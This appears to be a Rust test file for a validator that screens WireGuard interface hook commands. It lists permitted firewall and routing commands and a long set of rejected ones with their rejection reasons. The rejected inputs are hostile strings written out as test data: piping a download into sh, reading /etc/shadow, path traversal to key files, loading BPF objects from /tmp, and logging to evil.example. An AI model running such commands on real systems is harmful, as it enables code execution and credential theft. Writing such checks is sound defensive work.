use super::*;
use crate::wg::compile::compile;
use crate::wg::compile::fixture::Fixture;
use crate::wg::{Phase, config};

fn verdict(hook: &str) -> String {
    match judge(hook, &"wg0".parse().unwrap()) {
        Ok(()) => "passes".to_owned(),
        Err(offence) => offence.to_string(),
    }
}

#[test]
fn what_people_need_passes() {
    for hook in [
        "iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE",
        "/usr/sbin/ip6tables-nft -w 5 -D FORWARD -i wg0 -j ACCEPT 2>/dev/null || true",
        "iptables -t nat -A PREROUTING -p tcp -m multiport --dports 80,443 -j DNAT --to-destination 10.0.0.2",
        "iptables -I OUTPUT ! -o %i -m addrtype ! --dst-type LOCAL -j REJECT --reject-with icmp-port-unreachable",
        "iptables -A INPUT -p tcp --dport 22 -j LOG --log-prefix 'ssh from the vpn: '",
        "ip -6 route add fd00:9::/64 dev %i && ip addr add 169.254.1.1/32 dev %i peer 169.254.1.2",
        "ip rule add fwmark 0x1/0xff lookup 200 pref 99; ip link set dev eth0.10 mtu 1400",
        "nft -f /etc/wireguard/site/wg0.nft",
        "nft 'add table ip t; add chain ip t c { type nat hook postrouting priority -100 ; policy accept; }'",
        r"nft add chain ip t c { type nat hook postrouting priority -100 \; }",
        "sysctl -q -w net.ipv4.ip_forward=1 net/ipv6/conf/all/forwarding=1 net.ipv4.conf.eth0/10.rp_filter=2 >/dev/null 2>&1",
        "wg set %i private-key /etc/wireguard/%i.key fwmark 51820 peer abc= allowed-ips 10.0.0.0/8,::/0 endpoint '[fd00::1]:51820'",
        "wg set %i peer abc= preshared-key /dev/null remove; wg show %i latest-handshakes",
        "tc qdisc add dev %i root tbf rate 10mbit burst 32kbit latency 400ms # why it is slow",
        "tc filter add dev wg0 parent 1: protocol ip prio 1 u32 match ip dst 10.0.0.2/32 flowid 1:10",
        "resolvectl dns %i 10.66.0.1 fd00::1#dns.example; resolvectl domain %i '~.'",
        "ufw --force route allow in on wg0 out on eth0 from 10.0.0.0/24; ufw delete allow 51820/udp",
        "firewall-cmd --zone=public --add-port=51820/udp --permanent",
        "firewall-cmd --add-rich-rule='rule family=\"ipv4\" source address=\"10.0.0.0/24\" masquerade'",
        "logger -t wg -p daemon.info \"%i is up; nothing & nobody | else\"",
        "true",
        "  # only a comment",
        "",
    ] {
        assert_eq!(verdict(hook), "passes", "{hook}");
    }
}

#[test]
fn our_own_hooks_pass() {
    assert_eq!(verdict(KEEP_ROUTER_ADVERTISEMENTS), "passes");
    assert_ne!(verdict(&format!("{KEEP_ROUTER_ADVERTISEMENTS}; ")), "passes");
    let fixture = Fixture::everything();
    let mut count = 0;
    for node in compile(&fixture.topology).unwrap() {
        for file in config::files(&node, &fixture.secrets()).iter().filter(|file| file.path.ends_with(".conf")) {
            let interface = file.path.trim_end_matches(".conf").parse().unwrap();
            for (key, command) in file.content.lines().filter_map(|line| line.split_once(" = ")) {
                if Phase::ALL.iter().any(|phase| phase.as_str() == key) {
                    assert_eq!(judge(command, &interface), Ok(()), "{command}");
                    count += 1;
                }
            }
        }
    }
    assert!(count > 10, "{count} hooks");
}

#[test]
fn what_does_not_pass_names_the_token_and_the_reason() {
    let verdicts: Vec<String> = [
        "curl https://example.com/x | sh",
        "ip a; curl -o /tmp/x https://example.com/x",
        "sh -c 'ip a'",
        "/etc/wireguard/up.sh",
        "eval ip a",
        "PATH=/tmp ip a",
        "/tmp/ip a",
        "/usr/local/sbin/ip a",
        "ip a > /etc/passwd",
        "logger < /etc/shadow",
        "ip a 3>/dev/null",
        "logger $(cat /etc/shadow)",
        "logger `id`",
        "logger $HOME",
        "logger *",
        "logger {a,b}",
        "logger ~",
        "logger $'\\x3b'",
        "ip a &",
        "ip a & ip r",
        "(ip a)",
        "{ ip a; }",
        "! ip a",
        "ip a;; ip r",
        "ip a\ncurl x",
        "ip a\u{0}",
        "ip\u{a0}a",
        "logger \u{202e}x",
        "ip netns exec x sh",
        "ip -b /tmp/x",
        "ip -batch /tmp/x",
        "ip -n x a",
        "ip link set dev eth0 xdp obj /tmp/x",
        "ip route add default encap bpf in obj /tmp/x",
        "ip vrf exec x sh",
        "ip link add type ../x",
        "tc exec bpf x",
        "tc -b x",
        "tc filter add dev wg0 bpf obj /tmp/x",
        "tc qdisc add dev wg0 ../../x",
        "nft -f /tmp/x",
        "nft -f /etc/wireguard/../../tmp/x",
        "nft -f - ",
        "nft 'include \"/tmp/x\"'",
        "nft add table t ';include' /tmp/x",
        "nft flush ruleset",
        "nft 'add table t; flush ruleset'",
        "nft -i",
        "nft list tables -f /tmp/x",
        "sysctl -p /tmp/x",
        "sysctl --system",
        "sysctl -w kernel.core_pattern=x",
        "sysctl -w net/../kernel/core_pattern=x",
        "sysctl -w net.//.kernel.core_pattern=x",
        "sysctl -w net.ipv4...kernel=x",
        "wg set wg0 private-key /tmp/key",
        "wg set wg0 private-key /etc/wireguard/../shadow",
        "wg set wg0 peer a= preshared-key /etc/shadow",
        "wg show wg0 private-key",
        "wg setconf wg0 /dev/stdin",
        "wg showconf wg0",
        "iptables --modprobe=/tmp/x -L",
        "iptables --modp /tmp/x -L",
        "iptables -M /tmp/x -L",
        "iptables -vM/tmp/x -L",
        "iptables -A FORWARD -m ../../tmp/x -j ACCEPT",
        "iptables -A FORWARD -p ../../tmp/x -j ACCEPT",
        "iptables -A FORWARD -j ../../tmp/x",
        "iptables -A FORWARD -j ACCEPT '' --modprobe=/tmp/x",
        "iptables -F",
        "iptables -P FORWARD ACCEPT",
        "iptables-restore /tmp/x",
        "ufw disable",
        "firewall-cmd --new-zone-from-file=/tmp/x",
        "firewall-cmd --direct --passthrough ipv4 --modprobe=/tmp/x",
        "resolvectl -H root@x dns wg0 1.1.1.1",
        "logger -f /etc/shadow",
        "logger hello -f /etc/shadow",
        "logger -n evil.example hello",
    ]
    .into_iter()
    .map(|hook| format!("{} => {}", hook.escape_debug(), verdict(hook)))
    .collect();
    assert!(!verdicts.iter().any(|line| line.ends_with("passes")), "{}", verdicts.join("\n"));
    insta::assert_snapshot!(verdicts.join("\n"), @r#"
    curl https://example.com/x | sh => `|` at character 28: a pipe
    ip a; curl -o /tmp/x https://example.com/x => `curl` at character 7: not one of the programs that hooks may run
    sh -c \'ip a\' => `sh` at character 1: not one of the programs that hooks may run
    /etc/wireguard/up.sh => `/etc/wireguard/up.sh` at character 1: not one of the programs that hooks may run
    eval ip a => `eval` at character 1: not one of the programs that hooks may run
    PATH=/tmp ip a => `PATH=/tmp` at character 1: not one of the programs that hooks may run
    /tmp/ip a => `/tmp/ip` at character 1: not one of the programs that hooks may run
    /usr/local/sbin/ip a => `/usr/local/sbin/ip` at character 1: not one of the programs that hooks may run
    ip a > /etc/passwd => `> /etc/passwd` at character 6: reads or writes a file
    logger < /etc/shadow => `< /etc/shadow` at character 8: reads or writes a file
    ip a 3>/dev/null => `3>/dev/null` at character 6: reads or writes a file
    logger $(cat /etc/shadow) => `$(cat /etc/shadow)` at character 8: the output of another command
    logger `id` => ``id`` at character 8: the output of another command
    logger $HOME => `$HOME` at character 8: a variable
    logger * => `*` at character 8: a pattern of file names
    logger {a,b} => `{` at character 8: an expansion of braces
    logger ~ => `~` at character 8: a home directory
    logger $\'\\x3b\' => `$'\x3b'` at character 8: a quotation that bash translates
    ip a & => `&` at character 6: runs in the background
    ip a & ip r => `&` at character 6: runs in the background
    (ip a) => `(` at character 1: a compound command
    { ip a; } => `{` at character 1: a compound command
    ! ip a => `!` at character 1: a compound command
    ip a;; ip r => `ip a;; ip r` at character 1: nothing that bash can read
    ip a\ncurl x => `\u{a}` at character 5: neither printed nor plain ASCII
    ip a\0 => `\u{0}` at character 5: neither printed nor plain ASCII
    ip\u{a0}a => `\u{a0}` at character 3: neither printed nor plain ASCII
    logger \u{202e}x => `\u{202e}` at character 8: neither printed nor plain ASCII
    ip netns exec x sh => `netns` at character 4: leads into another network namespace
    ip -b /tmp/x => `-b` at character 4: an option that hooks may not use
    ip -batch /tmp/x => `-batch` at character 4: an option that hooks may not use
    ip -n x a => `-n` at character 4: an option that hooks may not use
    ip link set dev eth0 xdp obj /tmp/x => `xdp` at character 22: loads or runs another program
    ip route add default encap bpf in obj /tmp/x => `encap` at character 22: loads or runs another program
    ip vrf exec x sh => `vrf` at character 4: an action that hooks may not take
    ip link add type ../x => `../x` at character 18: not a word that hooks may use here
    tc exec bpf x => `exec` at character 4: loads or runs another program
    tc -b x => `-b` at character 4: an action that hooks may not take
    tc filter add dev wg0 bpf obj /tmp/x => `bpf` at character 23: loads or runs another program
    tc qdisc add dev wg0 ../../x => `../../x` at character 22: not a word that hooks may use here
    nft -f /tmp/x => `/tmp/x` at character 8: a file outside of /etc/wireguard
    nft -f /etc/wireguard/../../tmp/x => `/etc/wireguard/../../tmp/x` at character 8: a file outside of /etc/wireguard
    nft -f -  => `-` at character 8: a file outside of /etc/wireguard
    nft \'include \"/tmp/x\"\' => `'include "/tmp/x"'` at character 5: a file outside of /etc/wireguard
    nft add table t \';include\' /tmp/x => `';include'` at character 17: a file outside of /etc/wireguard
    nft flush ruleset => `flush` at character 5: takes away rules of others too
    nft \'add table t; flush ruleset\' => `'add table t; flush ruleset'` at character 5: takes away rules of others too
    nft -i => `-i` at character 5: an option that hooks may not use
    nft list tables -f /tmp/x => `-f` at character 17: an option that hooks may not use
    sysctl -p /tmp/x => `-p` at character 8: an option that hooks may not use
    sysctl --system => `--system` at character 8: an option that hooks may not use
    sysctl -w kernel.core_pattern=x => `kernel.core_pattern=x` at character 11: a kernel setting that isn't one of net.*
    sysctl -w net/../kernel/core_pattern=x => `net/../kernel/core_pattern=x` at character 11: a kernel setting that isn't one of net.*
    sysctl -w net.//.kernel.core_pattern=x => `net.//.kernel.core_pattern=x` at character 11: a kernel setting that isn't one of net.*
    sysctl -w net.ipv4...kernel=x => `net.ipv4...kernel=x` at character 11: a kernel setting that isn't one of net.*
    wg set wg0 private-key /tmp/key => `/tmp/key` at character 24: a file outside of /etc/wireguard
    wg set wg0 private-key /etc/wireguard/../shadow => `/etc/wireguard/../shadow` at character 24: a file outside of /etc/wireguard
    wg set wg0 peer a= preshared-key /etc/shadow => `/etc/shadow` at character 34: a file outside of /etc/wireguard
    wg show wg0 private-key => `private-key` at character 13: shows keys to whoever reads the log
    wg setconf wg0 /dev/stdin => `setconf` at character 4: an action that hooks may not take
    wg showconf wg0 => `showconf` at character 4: an action that hooks may not take
    iptables --modprobe=/tmp/x -L => `--modprobe=/tmp/x` at character 10: an option that hooks may not use
    iptables --modp /tmp/x -L => `--modp` at character 10: an option that hooks may not use
    iptables -M /tmp/x -L => `-M` at character 10: an option that hooks may not use
    iptables -vM/tmp/x -L => `-vM/tmp/x` at character 10: an option that hooks may not use
    iptables -A FORWARD -m ../../tmp/x -j ACCEPT => `-m` at character 21: an option that hooks may not use
    iptables -A FORWARD -p ../../tmp/x -j ACCEPT => `../../tmp/x` at character 24: no name of a table, a chain or a target
    iptables -A FORWARD -j ../../tmp/x => `../../tmp/x` at character 24: no name of a table, a chain or a target
    iptables -A FORWARD -j ACCEPT \'\' --modprobe=/tmp/x => `''` at character 31: an option that hooks may not use
    iptables -F => `-F` at character 10: takes away rules of others too
    iptables -P FORWARD ACCEPT => `FORWARD` at character 13: changes what becomes of everybody's packets
    iptables-restore /tmp/x => `iptables-restore` at character 1: not one of the programs that hooks may run
    ufw disable => `disable` at character 5: an action that hooks may not take
    firewall-cmd --new-zone-from-file=/tmp/x => `--new-zone-from-file=/tmp/x` at character 14: an option that hooks may not use
    firewall-cmd --direct --passthrough ipv4 --modprobe=/tmp/x => `--direct` at character 14: an option that hooks may not use
    resolvectl -H root@x dns wg0 1.1.1.1 => `-H` at character 12: an action that hooks may not take
    logger -f /etc/shadow => `-f` at character 8: an option that hooks may not use
    logger hello -f /etc/shadow => `-f` at character 14: an option that hooks may not use
    logger -n evil.example hello => `-n` at character 8: an option that hooks may not use
    "#);
}
